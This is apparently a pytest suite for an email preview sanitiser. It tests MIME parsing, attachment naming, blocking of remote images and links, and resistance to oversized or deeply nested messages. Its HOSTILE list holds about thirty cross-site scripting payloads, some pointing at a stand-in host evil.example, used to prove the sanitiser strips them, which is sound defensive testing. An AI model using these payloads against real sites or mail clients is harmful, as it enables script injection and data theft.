"""Messages taken apart for the popup: structure, preview, source, whatever a sender wrote."""

from __future__ import annotations

import re
import time
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quarantine.console.text_only import texts_of
from spool.console.message import source_page
from spool.console.preview import preview_of
from spool.message.structure import MOST_PARTS, body_of, structure_of

HEAD = b"From: ann@example.org\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n"
PIXEL = b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def multipart(*parts: bytes, kind: bytes = b"mixed") -> bytes:
    body = b"".join(b"--b1\r\n" + part + b"\r\n" for part in parts)
    return HEAD + b"Content-Type: multipart/" + kind + b'; boundary="b1"\r\n\r\n' + body + b"--b1--\r\n"


def written(folder: Path, content: bytes) -> Path:
    path = folder / "message.eml"
    path.write_bytes(content)
    return path


def html(folder: Path, text: str) -> str:
    path = written(folder, HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + text.encode())
    return preview_of(path, structure_of(path)).document.partition("<body>")[2]


def test_a_plain_message_is_shown_as_it_was_written(tmp_path: Path) -> None:
    path = written(tmp_path, HEAD + b"\r\nNoon & <b>not bold</b>\r\n")
    assert "Noon &amp; &lt;b&gt;not bold&lt;/b&gt;" in preview_of(path, structure_of(path)).document


def test_nested_parts_are_found_and_attachments_listed(tmp_path: Path) -> None:
    inner = (
        b'Content-Type: multipart/alternative; boundary="b2"\r\n\r\n--b2\r\n\r\nplain\r\n--b2\r\n'
        b"Content-Type: text/html"
        b"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>caf=C3=A9</p>\r\n--b2--"
    )
    attached = (
        b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''r%C3%A9sum%C3%A9.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nQUJDREVG"
    )
    path = written(tmp_path, multipart(inner, attached))
    structure = structure_of(path)
    assert [part.content_type for part in structure.parts] == ["text/plain", "text/html", "application/pdf"]
    assert [(part.name, part.size_bytes) for part in structure.attachments] == [("résumé.pdf", 7)]
    assert "<p>café</p>" in preview_of(path, structure).document


def test_a_picture_of_the_message_itself_is_shown_and_others_are_not(tmp_path: Path) -> None:
    pictures = b'<img src="cid:logo@x"><img src="https://tracker.example/p.gif"><img src="cid:none">'
    text = b"Content-Type: text/html\r\n\r\n" + pictures
    logo = b"Content-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + PIXEL
    path = written(tmp_path, multipart(text, logo, kind=b"related"))
    shown = preview_of(path, structure_of(path))
    assert "data:image/png;base64,iVBOR" in shown.document
    assert "tracker.example" not in shown.document
    assert shown.remote_images == 1


def test_a_link_is_named_but_leads_nowhere(tmp_path: Path) -> None:
    path = written(tmp_path, HEAD + b'Content-Type: text/html\r\n\r\n<a href="https://bank.example/x">bank</a>')
    shown = preview_of(path, structure_of(path))
    assert shown.links == ["https://bank.example/x"]
    assert "href" not in shown.document


# What a sender may try, after the OWASP cheat sheet's kinds.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<p id=x tabindex=1 onfocus=alert(1)>x</p>",
    "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
    "<img srcset='https://evil.example/x 1x'>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<a ping=https://evil.example href=#>x</a>",
    "</body></html><script>alert(1)</script>",
]


@pytest.mark.parametrize("attempt", HOSTILE)
def test_nothing_active_and_nothing_remote_is_left_in_a_preview(tmp_path: Path, attempt: str) -> None:
    shown = html(tmp_path, attempt)
    tags = re.findall(r"<([a-zA-Z]+)([^>]*)>", shown)
    assert not {name.lower() for name, _ in tags} & {
        "script",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "meta",
        "base",
        "link",
        "style",
        "video",
        "audio",
        "source",
        "template",
        "noscript",
    }
    for _, attributes in tags:
        assert not re.search(r"(?i)\bon\w+\s*=|javascript:|evil\.example|expression|srcset|href", attributes)


def test_html_nested_a_hundred_thousand_deep_takes_no_time(tmp_path: Path) -> None:
    started = time.process_time()
    assert "takes too long to be made safe" in html(tmp_path, "<div>" * 100_000)
    assert time.process_time() - started < 3


@pytest.mark.parametrize("hostile", ["<u></x>" * 75_000, "<ul>" * 120_000], ids=["misfits", "lists"])
def test_no_html_costs_more_than_its_share(tmp_path: Path, hostile: str) -> None:
    started = time.process_time()
    assert "Here is its source" in html(tmp_path, hostile)
    part = b"Content-Type: text/html\r\n\r\n" + hostile[: 128 * 1024].encode()
    path = written(tmp_path, multipart(*[part] * 20))
    assert texts_of(path, structure_of(path))
    assert time.process_time() - started < 3


def test_a_multipart_whose_delimiter_never_comes_is_listed_with_all_that_is_in_it(tmp_path: Path) -> None:
    run_together = b"--other\r\nContent-Type: text/plain\r\n\r\nhello\r\n--other--\r\n"
    path = written(tmp_path, HEAD + b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n' + run_together)
    structure = structure_of(path)
    assert [part.content_type for part in structure.attachments] == ["multipart/mixed"]
    part = structure.parts[0]
    assert body_of(path, part, 1000) == (run_together, False)


def test_one_inside_of_another_is_listed_between_its_neighbours(tmp_path: Path) -> None:
    inner = b'Content-Type: multipart/alternative; boundary="b2"\r\n\r\n--other\r\n\r\nhello'
    path = written(tmp_path, multipart(b"\r\nbefore", inner, b"Content-Type: text/html\r\n\r\nafter"))
    types = [part.content_type for part in structure_of(path).parts]
    assert types == ["text/plain", "multipart/alternative", "text/html"]


def test_what_stands_before_the_first_delimiter_is_no_part(tmp_path: Path) -> None:
    message = multipart(b"\r\nhello").replace(b"\r\n\r\n--b1", b"\r\n\r\nThis is a message in MIME.\r\n--b1", 1)
    path = written(tmp_path, message)
    [part] = structure_of(path).parts
    assert body_of(path, part, 1000)[0].strip() == b"hello"


def test_lines_that_look_like_delimiters_are_followed_only_so_far(tmp_path: Path) -> None:
    path = written(tmp_path, multipart(b"\r\nhello", b"\r\n" + b"--z\n" * 2_000_000))
    started = time.process_time()
    structure = structure_of(path)
    assert structure.cut
    assert [part.content_type for part in structure.parts] == ["text/plain"]
    assert time.process_time() - started < 3


def test_a_long_boundary_and_many_levels_hide_nothing(tmp_path: Path) -> None:
    content = b"\r\nhidden\r\n"
    for level in range(25):
        boundary = b"%d" % level + b"z" * 250
        content = b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n--%s\r\n%s\r\n--%s--\r\n' % (
            boundary,
            boundary,
            content,
            boundary,
        )
    path = written(tmp_path, HEAD + content)
    assert "hidden" in preview_of(path, structure_of(path)).document


def test_an_encoding_with_something_behind_it_is_decoded(tmp_path: Path) -> None:
    part = b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64;\r\n\r\naGlkZGVu"
    path = written(tmp_path, multipart(part))
    assert "hidden" in preview_of(path, structure_of(path)).document


def test_ten_thousand_parts_in_fifty_megabytes_are_read_in_bounded_memory_and_time(tmp_path: Path) -> None:
    part = (
        b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=x.bin\r\n\r\n"
        + b"x" * 76
        + b"\r\n"
    )
    path = written(tmp_path, multipart(*[part * 1 + b"y" * 5000 for _ in range(10_000)]))
    assert path.stat().st_size > 50_000_000
    tracemalloc.start()
    started = time.process_time()
    structure = structure_of(path)
    preview_of(path, structure)
    seconds, (_, peak) = time.process_time() - started, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert len(structure.parts) == MOST_PARTS and structure.cut
    assert peak < 8 * 1024 * 1024
    assert seconds < 3


def test_one_part_of_fifty_megabytes_is_cut(tmp_path: Path) -> None:
    path = written(tmp_path, HEAD + b"\r\n" + b"All work and no play.\r\n" * 2_300_000)
    tracemalloc.start()
    shown = preview_of(path, structure_of(path))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "Only the beginning" in shown.document
    assert peak < 16 * 1024 * 1024


def test_the_source_is_paged_from_end_to_end(tmp_path: Path) -> None:
    content = HEAD + b"\r\n" + bytes(range(32, 127)) * 3000
    path = written(tmp_path, content)
    pieces, start = [], 0
    while start >= 0:
        shown = source_page(path, start)
        pieces.append(shown.text)
        start = shown.following
    assert len(pieces) == 5
    assert "".join(pieces) == content.decode().replace("\r\n", "\n")
    assert source_page(path, 10**15).end == len(content)


def test_a_name_that_turns_the_line_around_shows_where(tmp_path: Path) -> None:
    name = b"filename*=utf-8''in%E2%80%AEfdp.exe"
    part = b"Content-Type: application/x\r\nContent-Disposition: attachment; " + name + b"\r\n\r\nx"
    assert structure_of(written(tmp_path, multipart(part))).attachments[0].name == "in\ufffdfdp.exe"


@given(st.binary(max_size=600))
@settings(max_examples=150)
def test_no_bytes_make_it_raise(tmp_path: Path, content: bytes) -> None:
    for message in (content, multipart(content), HEAD + b"Content-Type: text/html; charset=" + content):
        path = written(tmp_path, message)
        structure = structure_of(path)
        assert preview_of(path, structure).document.startswith("<!DOCTYPE html>")
        assert all(0 <= part.start <= part.end <= len(message) for part in structure.parts)
